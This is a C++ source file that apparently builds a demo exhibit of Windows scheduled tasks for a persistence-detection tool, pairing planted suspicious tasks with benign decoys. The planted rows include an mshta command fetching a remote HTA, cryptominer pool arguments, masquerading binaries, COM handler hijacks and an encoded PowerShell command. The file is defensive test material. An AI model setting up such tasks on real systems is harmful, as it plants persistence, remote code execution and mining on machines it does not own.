// Scheduled tasks: what they run, where they stand, how they hide.
#include "tools/demo/exhibition/exhibition.h"
#include "tools/demo/exhibition/task_rows.h"
#include "tools/demo/exhibition/values.h"

namespace xiezhi::demo {
namespace {

using enum Role;
using enum HiveOf;

// clang-format off
constexpr auto kTasks = std::to_array<TaskRow>({
    {Planted, "host/task_action", R"(\Update\Hideout)", R"(C:\Windows\Temp\ta-hideout.exe)"},
    {Planted, "host/task_action", R"(\Update\Worker)", R"(C:\Tools\ta-worker.exe)", "-o pool.example:3333 --donate-level 1"},
    {Planted, "host/task_action", R"(\Update\Mask)", R"(C:\Tools\lsass.exe)"},
    {Planted, "host/task_action", R"(\Update\Lookalike)", R"(C:\Tools\svchosts.exe)"},
    {Planted, "host/task_action", R"(\Update\Web)", "mshta.exe", "http://203.0.113.9/ta.hta"},
    {Planted, "host/task_action", R"(\Microsoft\Windows\Update\Data)", R"(C:\ProgramData\Acme\ta-data.exe)"},
    {Decoy, "host/task_action", R"(\Acme\Backup)", R"("C:\Program Files\Acme Backup\agent.exe")", "--nightly"},
    {Planted, "host/task_action", R"(\Update\Pool)", R"(C:\Tools\ta-pool.exe)", "-o pool.mine.example:443"},
    {Decoy, "host/task_action", R"(\Acme\Recycle pools)", "powershell.exe", R"(-File C:\Scripts\recycle-apppool.ps1)"},
    {Decoy, "host/task_action", R"(\Acme\Inventory)", "powershell.exe", R"(-NoProfile -File "C:\Program Files\Acme\inventory.ps1")"},
    {Decoy, "host/task_action", R"(\Microsoft\Windows\Windows Defender\Windows Defender Scheduled Scan)", R"(C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\MpCmdRun.exe)", "Scan -ScheduleJob -RestrictPrivileges"},
    {Planted, "host/family_task", R"(\Mysa1)", R"(C:\Tools\ft.exe)"},
    {Planted, "host/family_task", R"(\Update\Spread)", R"(C:\Windows\SpeechsTracing\spoolsv.exe)"},
    {Planted, "host/family_task", R"(\Update\Miner)", R"(C:\Tools\xmrig.exe)"},
    {Decoy, "host/family_task", R"(\Acme\Mysql backup)", R"("C:\Program Files\MySQL\bin\mysqldump.exe")", "--all-databases"},
    {Planted, "host/task_hidden", R"(\Update\Without descriptor)", R"(C:\Tools\th-sd.exe)", "", "Acme", "", "S-1-5-18", "", "", Flaw::NoDescriptor},
    {Planted, "host/task_hidden", R"(\Update\Index zero)", R"(C:\Tools\th-index.exe)", "", "Acme", "", "S-1-5-18", "", "", Flaw::IndexZero},
    {Planted, "host/task_hidden", R"(\Update\Without file)", R"(C:\Tools\th-file.exe)", "", "Acme", "", "S-1-5-18", "", "", Flaw::NoFile},
    {Decoy, "host/task_hidden", R"(\Acme\In sight)", R"("C:\Program Files\Acme\sight.exe")"},
    {Planted, "host/task_orphan_file", R"(\Update\Without cache)", R"(C:\Tools\to-cache.exe)", "", "Acme", "", "S-1-5-18", "", "", Flaw::NoCache},
    {Decoy, "host/task_orphan_file", R"(\Acme\Registered)", R"("C:\Program Files\Acme\registered.exe")"},
    {Planted, "host/task_differs", R"(\Update\Other in cache)", R"(C:\Program Files\Acme\differs.exe)", "/check", "Acme", "", "S-1-5-18", "", "", Flaw::OtherInCache},
    {Decoy, "host/task_differs", R"(\Acme\Same in cache)", R"(C:\Program Files\Acme\same.exe)", "/check", "Acme", "", "S-1-5-18", "", "", Flaw::SameInCache},
    {Planted, "host/task_runs_writable_file", R"(\Update\Writable)", R"(C:\ProgramData\Shop\tw.exe)", "", R"(EXHIBIT-01\li)"},
    {Planted, "host/task_runs_writable_file", R"(\Update\Writable by rights)", R"(C:\ProgramData\Shop\tw-rights.exe)", "", R"(EXHIBIT-01\li)", "", "S-1-5-21-3512467890-1180244571-2904415663-1001", "HighestAvailable"},
    {Decoy, "host/task_runs_writable_file", R"(\Acme\Chat update)", R"("C:\Users\wang\AppData\Local\Programs\Acme Chat\update.exe")", "", R"(EXHIBIT-01\wang)", "", "S-1-5-21-3512467890-1180244571-2904415663-1002", "LeastPrivilege"},
    {Planted, "host/task_trigger", R"(\Update\Pulse)", R"(C:\Tools\tt-pulse.exe)", "", "Acme", "PT5M"},
    {Decoy, "host/task_trigger", R"(\Acme\Monitor)", R"(C:\Program Files\Acme\monitor.exe)", "", "Acme", "PT5M"},
    {Decoy, "host/task_trigger", R"(\Acme\Report)", R"(C:\Tools\report.exe)", "", "Acme", "PT1H"},
    {Planted, "host/task_name", R"(\Microsoft\Windows\Update\Check)", R"(C:\Tools\tn-check.exe)"},
    {Decoy, "host/task_name", R"(\Microsoft\Windows\Defrag\ScheduledDefrag)", R"(%windir%\system32\defrag.exe)", "-c -h -o -$"},
    {Planted, "host/task_com_handler", R"(\Update\Class of a user)", "", "", "Acme", "", "S-1-5-18", "", "{42AEDC87-2188-41FD-B9A3-0C966FEABEC1}"},
    {Planted, "host/task_com_handler", R"(\Update\Class in a hideout)", "", "", "Acme", "", "S-1-5-18", "", "{9C41F5E0-2B7D-4E60-8F21-7D0A6B3C5E04}"},
    {Planted, "host/task_com_handler", R"(\Microsoft\Windows\Update\Handler)", "", "", "Microsoft", "", "S-1-5-18", "", "{9C41F5E0-2B7D-4E60-8F21-7D0A6B3C5E05}"},
    {Decoy, "host/task_com_handler", R"(\Microsoft\Windows\Wininet\CacheTask)", "", "", "Microsoft", "", "S-1-5-32-545", "", "{0358B920-0AC7-461F-98F4-58E32CD89148}"},
    {Planted, "host/encoded_command", R"(\Update\Encoded)", "powershell.exe", "-enc SQBFAFgAIAAkAGUAbgB2ADoAeAA="},
    {Decoy, "host/encoded_command", R"(\Acme\Collect)", "powershell.exe", R"(-ExecutionPolicy RemoteSigned -File "C:\Program Files\Acme\collect.ps1")"},
});

constexpr auto kHandlers = std::to_array<ValueRow>({
    {Scenery, "", Software, R"(Classes\CLSID\{9C41F5E0-2B7D-4E60-8F21-7D0A6B3C5E04}\InprocServer32)", "", text(R"(C:\ProgramData\th-class.dll)")},
    {Scenery, "", Software, R"(Classes\CLSID\{9C41F5E0-2B7D-4E60-8F21-7D0A6B3C5E05}\InprocServer32)", "", expand(R"(%SystemRoot%\System32\th-server.dll)")},
    {Scenery, "", Software, R"(Classes\CLSID\{0358B920-0AC7-461F-98F4-58E32CD89148}\InprocServer32)", "", expand(R"(%SystemRoot%\system32\wininet.dll)")},
});
// clang-format on

}  // namespace

void exhibit_tasks(const Exhibition& at) {
    put_values(at.exhibit, kHandlers);
    put_tasks(at.exhibit, "6B2F8A10", kTasks);
}

}  // namespace xiezhi::demo
